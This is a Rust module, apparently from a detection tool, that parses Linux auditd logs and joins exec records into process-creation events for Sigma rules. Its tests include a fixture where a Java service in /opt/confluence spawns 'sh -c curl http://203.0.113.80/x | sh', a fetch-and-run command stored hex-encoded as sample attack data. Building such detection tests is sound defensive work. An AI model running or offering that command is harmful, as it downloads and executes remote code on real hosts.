//! Reading an `audit.log`: every record an event (`product: linux, service: auditd`), and the
//! records of one exec (`SYSCALL`, `EXECVE`, `CWD`, `PATH`, `PROCTITLE`, ending in `EOE`)
//! combined into one `product: linux, category: process_creation` event for SigmaHQ's Linux
//! process rules.
//!
//! Why the join: an exec is spread over records that share the `audit(time:serial)` stamp and
//! may be interleaved with other events' records; a rule asking for `Image` and `CommandLine`
//! together needs them in one event. The joined event has `Image` (the `SYSCALL`'s `exe`),
//! `CommandLine` (the `EXECVE` arguments joined with spaces), `CurrentDirectory` (`CWD`),
//! `User` (the interpreted `UID` of an enriched log, else `uid`), `LogonId` (`auid`),
//! `ProcessId`, `ParentProcessId`, and `ParentImage` / `ParentCommandLine` when the parent's own
//! exec (its pid the child's `ppid`) was seen earlier in the stream. A failed exec
//! (`success=no`) is no process creation. The joined events are counted in
//! [`FileStats::joined_events`], beside the per-record `events`.
//!
//! Memory is bounded: at most [`MAX_PENDING`] serials wait for their `EOE`; past that the
//! oldest is joined as it is and counted in [`FileStats::joined_incomplete`], as is a serial
//! still waiting at the end of the stream. Each waiting serial keeps at most
//! [`MAX_TEXT_BYTES`] of command line and paths; [`MAX_PROCESSES`] execs are remembered for
//! parents.
//!
//! [`FileStats::joined_events`]: spoor_event::FileStats::joined_events
//! [`FileStats::joined_incomplete`]: spoor_event::FileStats::joined_incomplete

use crate::auditd::{parse, AuditRecord};
use crate::kernel::Ctx;
use crate::lines::{Line, LineReader};
use chrono::{DateTime, Utc};
use spoor_event::{Event, LogSource, Position, Value};
use std::collections::{HashMap, VecDeque};
use std::io::{self, BufRead};
use std::sync::Arc;

/// Most serials waiting for their `EOE` record.
pub(crate) const MAX_PENDING: usize = 256;

/// Most bytes of command line (and of each path) kept for one waiting serial.
pub(crate) const MAX_TEXT_BYTES: usize = 32 * 1024;

/// Most execs remembered as possible parents (pid -> image and command line).
pub(crate) const MAX_PROCESSES: usize = 16 * 1024;

/// The record types of an exec event the join reads (records of other types, such as the
/// single-record `USER_*` events, never wait for an `EOE`).
const JOINED_TYPES: [&[u8]; 6] = [b"SYSCALL", b"EXECVE", b"CWD", b"PATH", b"PROCTITLE", b"EOE"];

/// Most distinct field names given a shared `Arc<str>`; others are allocated per event.
const MAX_NAMES: usize = 4096;

/// The log source of every audit record.
pub(crate) fn record_logsource() -> LogSource {
    LogSource::new(Some("linux"), None, Some("auditd"))
}

/// The log source of the joined exec events.
pub(crate) fn process_logsource() -> LogSource {
    LogSource::new(Some("linux"), Some("process_creation"), None)
}

/// What is kept of a serial's records until its `EOE`.
#[derive(Default)]
struct Pending {
    time: Option<DateTime<Utc>>,
    line: u64,
    exe: Option<String>,
    pid: Option<String>,
    ppid: Option<String>,
    user: Option<String>,
    uid: Option<String>,
    auid: Option<String>,
    failed: bool,
    syscall_exec: bool,
    args: Vec<String>,
    args_bytes: usize,
    execve: bool,
    cwd: Option<String>,
}

fn capped(s: &str) -> String {
    let mut end = s.len().min(MAX_TEXT_BYTES);
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    s.get(..end).unwrap_or_default().to_string()
}

fn text(v: &Value) -> Option<String> {
    match v {
        Value::Str(s) => Some(capped(s)),
        Value::Int(i) => Some(i.to_string()),
        _ => None,
    }
}

impl Pending {
    fn take(&mut self, r: &AuditRecord<'_>, line: u64) {
        if self.time.is_none() {
            self.time = Some(r.time);
            self.line = line;
        }
        let get = |k: &str| {
            r.fields
                .iter()
                .find(|(n, _)| n == k)
                .and_then(|(_, v)| text(v))
        };
        match r.record_type {
            b"SYSCALL" => {
                self.exe = get("exe");
                self.pid = get("pid");
                self.ppid = get("ppid");
                self.uid = get("uid");
                self.user = get("UID");
                self.auid = get("auid");
                self.failed = get("success").as_deref() == Some("no");
                self.syscall_exec =
                    matches!(get("SYSCALL").as_deref(), Some("execve" | "execveat"));
            }
            b"EXECVE" => {
                self.execve = true;
                let argc = get("argc")
                    .and_then(|a| a.parse::<usize>().ok())
                    .unwrap_or(usize::MAX);
                for i in 0..argc.min(r.fields.len()) {
                    let Some(a) = get(&format!("a{i}")) else {
                        break;
                    };
                    if self.args_bytes + a.len() > MAX_TEXT_BYTES {
                        break;
                    }
                    self.args_bytes += a.len() + 1;
                    self.args.push(a);
                }
            }
            b"CWD" => self.cwd = get("cwd"),
            _ => {}
        }
    }

    fn is_exec(&self) -> bool {
        (self.syscall_exec || self.execve) && self.exe.is_some() && !self.failed
    }
}

/// The host a record came from (`node=`, if any).
type Node = Option<Box<[u8]>>;

/// A serial's waiting records within its host.
type SerialKey = (Node, u64);

/// A finished serial: its host, what was kept, and whether its `EOE` was seen.
type Finished = (Node, Pending, bool);

/// The exec join: serials waiting for their end, and the execs seen (for parents).
#[derive(Default)]
pub(crate) struct ExecJoin {
    pending: HashMap<SerialKey, Pending>,
    order: VecDeque<SerialKey>,
    /// (host, pid) -> (image, command line) of the execs seen.
    processes: HashMap<(Node, String), (String, String)>,
    process_order: VecDeque<(Node, String)>,
}

impl ExecJoin {
    /// Takes in one record; returns the serials it completed or pushed out (and whether each
    /// was complete).
    fn record(&mut self, r: &AuditRecord<'_>, line: u64) -> Vec<Finished> {
        let key = (r.node.map(Box::from), r.serial);
        let mut done = Vec::new();
        if !JOINED_TYPES.contains(&r.record_type) {
            return done;
        }
        if r.record_type == b"EOE" {
            if let Some(mut p) = self.pending.remove(&key) {
                p.take(r, line);
                done.push((key.0, p, true));
            }
            return done;
        }
        if !self.pending.contains_key(&key) {
            while self.pending.len() >= MAX_PENDING {
                let Some(old) = self.order.pop_front() else {
                    break;
                };
                if let Some(p) = self.pending.remove(&old) {
                    done.push((old.0, p, false));
                }
            }
            if self.order.len() > 4 * MAX_PENDING {
                let pending = &self.pending;
                self.order.retain(|k| pending.contains_key(k));
            }
            self.order.push_back(key.clone());
        }
        self.pending.entry(key).or_default().take(r, line);
        done
    }

    /// Every serial still waiting (at the end of the stream), oldest first.
    fn drain(&mut self) -> Vec<Finished> {
        let mut out = Vec::new();
        while let Some(k) = self.order.pop_front() {
            if let Some(p) = self.pending.remove(&k) {
                out.push((k.0, p, false));
            }
        }
        out
    }

    /// The process-creation event of a finished serial, if it was an exec.
    fn event(&mut self, node: Node, p: Pending, path: &Arc<str>) -> Option<Event> {
        if !p.is_exec() {
            return None;
        }
        let mut ev = Event::new(path.clone(), Position::Line(p.line));
        ev.timestamp = p.time;
        ev.logsource = process_logsource();
        let image = p.exe.clone().unwrap_or_default();
        let command_line = if p.args.is_empty() {
            image.clone()
        } else {
            p.args.join(" ")
        };
        crate::names::push(&mut ev, "Image", Value::str(image.as_str()));
        crate::names::push(&mut ev, "CommandLine", Value::str(command_line.as_str()));
        if let Some(c) = &p.cwd {
            crate::names::push(&mut ev, "CurrentDirectory", Value::str(c.as_str()));
        }
        if let Some(u) = p.user.as_ref().or(p.uid.as_ref()) {
            crate::names::push(&mut ev, "User", Value::str(u.as_str()));
        }
        if let Some(a) = &p.auid {
            crate::names::push(&mut ev, "LogonId", Value::str(a.as_str()));
        }
        if let Some(pid) = &p.pid {
            crate::names::push(&mut ev, "ProcessId", Value::str(pid.as_str()));
        }
        if let Some(n) = &node {
            crate::names::push(&mut ev, "node", Value::str(String::from_utf8_lossy(n)));
        }
        if let Some(ppid) = &p.ppid {
            crate::names::push(&mut ev, "ParentProcessId", Value::str(ppid.as_str()));
            if let Some((pi, pc)) = self.processes.get(&(node.clone(), ppid.clone())) {
                crate::names::push(&mut ev, "ParentImage", Value::str(pi.as_str()));
                crate::names::push(&mut ev, "ParentCommandLine", Value::str(pc.as_str()));
            }
        }
        if let Some(pid) = p.pid {
            let key = (node, pid);
            if !self.processes.contains_key(&key) {
                while self.processes.len() >= MAX_PROCESSES {
                    let Some(old) = self.process_order.pop_front() else {
                        break;
                    };
                    self.processes.remove(&old);
                }
                self.process_order.push_back(key.clone());
            }
            self.processes.insert(key, (image, command_line));
        }
        Some(ev)
    }
}

/// Shared `Arc<str>` field names for one stream, up to [`MAX_NAMES`].
#[derive(Default)]
struct Names(HashMap<String, Arc<str>>);

impl Names {
    fn get(&mut self, name: String) -> Arc<str> {
        if let Some(a) = self.0.get(&name) {
            return a.clone();
        }
        let a: Arc<str> = Arc::from(name.as_str());
        if self.0.len() < MAX_NAMES {
            self.0.insert(name, a.clone());
        }
        a
    }
}

/// The event of one record.
fn record_event(r: AuditRecord<'_>, ev: &mut Event, names: &mut Names) {
    ev.timestamp = Some(r.time);
    ev.logsource = record_logsource();
    crate::names::push(
        ev,
        "type",
        Value::str(String::from_utf8_lossy(r.record_type)),
    );
    if let Some(n) = r.node {
        crate::names::push(ev, "node", Value::str(String::from_utf8_lossy(n)));
    }
    for (k, v) in r.fields {
        ev.fields.push((names.get(k), v));
    }
}

/// Reads an audit log: one event per record, plus the joined exec events.
pub(crate) fn read_auditlog<R: BufRead>(mut lines: LineReader<R>, ctx: &mut Ctx) -> io::Result<()> {
    let mut join = ExecJoin::default();
    let mut names = Names::default();
    while let Some((no, line)) = lines.next_line()? {
        let text = match line {
            Line::TooLong(n) => {
                let r = ctx.too_long(n);
                ctx.unparsed(no, r);
                continue;
            }
            Line::Text(t) => t,
        };
        if text.trim_ascii().is_empty() {
            ctx.skip();
            continue;
        }
        let record = match parse(text) {
            Ok(r) => r,
            Err(reason) => {
                ctx.unparsed(no, reason);
                continue;
            }
        };
        for (node, p, complete) in join.record(&record, no) {
            finish(&mut join, node, p, complete, ctx);
        }
        let mut ev = Event::new(ctx.path.clone(), Position::Line(no));
        record_event(record, &mut ev, &mut names);
        ev.raw = Some(String::from_utf8_lossy(text).into());
        ctx.event(ev);
    }
    for (node, p, complete) in join.drain() {
        finish(&mut join, node, p, complete, ctx);
    }
    Ok(())
}

fn finish(join: &mut ExecJoin, node: Node, p: Pending, complete: bool, ctx: &mut Ctx) {
    if !complete {
        ctx.stats.joined_incomplete += 1;
    }
    let path = ctx.path.clone();
    if let Some(ev) = join.event(node, p, &path) {
        ctx.joined_event(ev);
    }
}

#[cfg(test)]
mod tests {
    use crate::read::tests::run_text;
    use crate::InputFormat;
    use spoor_event::{Event, Value};

    fn get<'a>(e: &'a Event, k: &str) -> Option<&'a str> {
        match e.get(k) {
            Some(Value::Str(s)) => Some(s),
            _ => None,
        }
    }

    /// A Java service's exec of `sh -c 'curl ... | sh'`, interleaved with another serial.
    const EXEC: &str = "\
type=SYSCALL msg=audit(1720418400.100:500): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=0 items=2 ppid=1 pid=1200 auid=4294967295 uid=1001 gid=1001 euid=1001 comm=\"java\" exe=\"/opt/java/bin/java\" key=\"exec\"
type=EXECVE msg=audit(1720418400.100:500): argc=2 a0=\"java\" a1=\"-jar\"
type=EOE msg=audit(1720418400.100:500): 
type=SYSCALL msg=audit(1720418460.200:501): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1200 pid=1301 auid=4294967295 uid=1001 gid=1001 euid=1001 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"exec\"
type=USER_AUTH msg=audit(1720418460.210:502): pid=9 uid=0 msg='op=PAM:authentication acct=\"root\" exe=\"/usr/sbin/sshd\" res=failed'
type=EXECVE msg=audit(1720418460.200:501): argc=3 a0=\"/bin/sh\" a1=\"-c\" a2=6375726C20687474703A2F2F3230332E302E3131332E38302F78207C207368
type=CWD msg=audit(1720418460.200:501): cwd=\"/opt/confluence\"
type=PATH msg=audit(1720418460.200:501): item=0 name=\"/bin/sh\" inode=1 dev=fd:00 mode=0100755 nametype=NORMAL
type=PROCTITLE msg=audit(1720418460.200:501): proctitle=2F62696E2F7368002D63
type=EOE msg=audit(1720418460.200:501): 
";

    #[test]
    fn records_and_joined_exec() {
        let (evs, st) = run_text(EXEC.as_bytes(), None);
        assert_eq!(st.format, "auditd");
        assert_eq!(st.events, 10, "{st:?}");
        assert_eq!(st.unparsed, 0);
        assert_eq!((st.joined_events, st.joined_incomplete), (2, 0));
        let records: Vec<&Event> = evs
            .iter()
            .filter(|e| e.logsource.service.as_deref() == Some("auditd"))
            .collect();
        assert_eq!(records.len(), 10);
        assert_eq!(
            get(records[5], "a2"),
            Some("curl http://203.0.113.80/x | sh")
        );
        assert_eq!(get(records[4], "acct"), Some("root"));
        let procs: Vec<&Event> = evs
            .iter()
            .filter(|e| e.logsource.category.as_deref() == Some("process_creation"))
            .collect();
        assert_eq!(procs.len(), 2);
        let sh = procs[1];
        assert_eq!(get(sh, "Image"), Some("/usr/bin/dash"));
        assert_eq!(
            get(sh, "CommandLine"),
            Some("/bin/sh -c curl http://203.0.113.80/x | sh")
        );
        assert_eq!(get(sh, "CurrentDirectory"), Some("/opt/confluence"));
        assert_eq!(get(sh, "ParentImage"), Some("/opt/java/bin/java"));
        assert_eq!(get(sh, "ParentCommandLine"), Some("java -jar"));
        assert_eq!(get(sh, "User"), Some("1001"));
        assert_eq!(get(sh, "LogonId"), Some("4294967295"));
        assert_eq!(sh.origin.position, spoor_event::Position::Line(4));
        assert_eq!(sh.timestamp.map(|t| t.timestamp()), Some(1_720_418_460));
    }

    #[test]
    fn pending_serials_are_bounded_and_counted() {
        let mut text = String::new();
        let n = super::MAX_PENDING + 10;
        for i in 0..n {
            text.push_str(&format!(
                "type=SYSCALL msg=audit(1.0:{i}): arch=c000003e syscall=59 success=yes ppid=1 pid={i} uid=0 auid=0 exe=\"/bin/true\"\n"
            ));
        }
        let (evs, st) = run_text(text.as_bytes(), Some(InputFormat::Auditd));
        assert_eq!(st.events as usize, n);
        assert_eq!(st.joined_events as usize, n);
        // None had an EOE: all flushed incomplete, the first 10 to make room.
        assert_eq!(st.joined_incomplete as usize, n);
        assert_eq!(evs.len(), 2 * n);
    }

    /// Mutated copies of a real layout (bytes replaced by the characters the parser cares
    /// about): never a panic, every line accounted for, no more joined events than execs.
    #[test]
    fn mutated_records_never_panic_and_are_counted() {
        const SPECIAL: &[u8] = b" =\"'():.\x1d\n\r\0a9[]_";
        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        for _ in 0..2000 {
            let mut bytes = EXEC.as_bytes().to_vec();
            for _ in 0..(next() % 12) {
                let i = (next() as usize) % bytes.len();
                bytes[i] = SPECIAL[(next() as usize) % SPECIAL.len()];
            }
            let (evs, st) = run_text(&bytes, Some(InputFormat::Auditd));
            let ends = bytes.iter().enumerate().filter(|(i, b)| {
                **b == b'\r' || (**b == b'\n' && (*i == 0 || bytes[i - 1] != b'\r'))
            });
            let lines = ends.count() as u64
                + u64::from(bytes.last().is_some_and(|b| *b != b'\n' && *b != b'\r'));
            assert_eq!(st.events + st.unparsed + st.skipped, lines, "{st:?}");
            assert_eq!(evs.len() as u64, st.events + st.joined_events);
            assert!(st.joined_events <= 2, "{st:?}");
        }
    }

    #[test]
    fn failed_exec_and_bad_lines() {
        let text = "type=SYSCALL msg=audit(1.0:1): arch=c000003e syscall=59 success=no exe=\"/bin/x\"\ntype=EOE msg=audit(1.0:1): \ngarbage here\n\n";
        let (_, st) = run_text(text.as_bytes(), Some(InputFormat::Auditd));
        assert_eq!((st.events, st.unparsed, st.skipped), (2, 1, 1));
        assert_eq!(st.joined_events, 0);
    }
}
